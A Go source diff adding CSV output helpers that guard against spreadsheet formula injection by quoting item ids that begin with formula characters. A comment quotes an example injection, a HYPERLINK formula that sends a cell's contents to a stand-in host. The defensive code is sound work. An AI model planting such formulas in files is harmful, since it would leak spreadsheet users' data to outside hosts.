@@ -1,0 +1,65 @@
+package fileio
+
+import (
+	"strconv"
+	"strings"
+)
+
+// Spreadsheet formula injection (CWE-1236): a spreadsheet opening a CSV
+// runs a cell that begins with '=', '+', '-' or '@' (or a tab or carriage
+// return before one) as a formula, so an item id such as
+// =HYPERLINK("http://x/?"&A1) in a user's pool would run in the lab's
+// Excel when qvs lists it. The CSV outputs people open (the tables of
+// score, select, as suggest and bayesopt suggest) pass ids through
+// SpreadsheetSafe unless --raw-ids is given; every qvs reader of ids takes
+// them back with LookupID. Files qvs writes for itself (records,
+// summary.csv, mds.csv) keep ids verbatim, so resumes compare them exactly.
+
+// formulaStart reports whether a cell beginning with c may be run as a
+// formula (or, for a quote mark, would lose that quote in a spreadsheet).
+func formulaStart(c byte) bool {
+	switch c {
+	case '=', '+', '-', '@', '\t', '\r', '\'':
+		return true
+	}
+	return false
+}
+
+// SpreadsheetSafe returns id with a leading ' when a spreadsheet would run
+// it as a formula (it starts with '=', '+', '-', '@', a tab or a carriage
+// return) or would drop its leading ' (it starts with one), so the
+// spreadsheet shows the id as text. A number ("-5", "+1.5e3") is left as
+// it is: it is no formula, and quoting it would turn it into text. The
+// mapping is one to one: UnquoteSpreadsheet(SpreadsheetSafe(id)) == id.
+func SpreadsheetSafe(id string) string {
+	if id == "" || !formulaStart(id[0]) {
+		return id
+	}
+	if _, err := strconv.ParseFloat(id, 64); err == nil && id[0] != '\'' {
+		return id
+	}
+	return "'" + id
+}
+
+// UnquoteSpreadsheet undoes SpreadsheetSafe: s without its leading ' when
+// SpreadsheetSafe would have added it; s unchanged otherwise.
+func UnquoteSpreadsheet(s string) string {
+	if len(s) >= 2 && s[0] == '\'' && SpreadsheetSafe(s[1:]) == s {
+		return s[1:]
+	}
+	return s
+}
+
+// LookupID finds the item a cell of an input file names: the cell's exact
+// text first (ids are kept as written, spaces included), then the text as
+// SpreadsheetSafe wrote it back ("'=x" names "=x"), then without
+// surrounding spaces (hand-written "m10 , 1"). It returns the item and the
+// id it matched.
+func LookupID(index map[string]int, cell string) (int, string, bool) {
+	for _, k := range []string{cell, UnquoteSpreadsheet(cell), strings.TrimSpace(cell), UnquoteSpreadsheet(strings.TrimSpace(cell))} {
+		if i, ok := index[k]; ok {
+			return i, k, true
+		}
+	}
+	return -1, "", false
+}
